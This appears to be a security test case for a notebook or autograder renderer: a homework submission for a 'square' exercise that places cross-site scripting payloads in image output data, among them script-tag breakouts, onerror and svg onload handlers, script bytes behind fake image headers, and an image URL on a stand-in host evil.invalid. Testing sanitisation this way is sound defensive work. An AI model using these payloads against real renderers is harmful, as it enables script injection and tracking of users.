# attack: pictures that are no pictures: markup and addresses in place of PNG data
# assignment: hw
# exercise: square
# status: ok
# score: 2
display({"image/png": '"><script>alert(1)</script><img src="'}, raw=True)
display({"image/png": "aGk=' onerror='alert(1)"}, raw=True)
display({"image/svg+xml": "<svg onload=alert(1)>"}, raw=True)
display({"image/png": "https://evil.invalid/@MARK@.png"}, raw=True)
display({"image/jpeg": b"\xff\xd8<script>", "image/gif": "GIF89a<script>"}, raw=True)


def square(x):
    return x * x
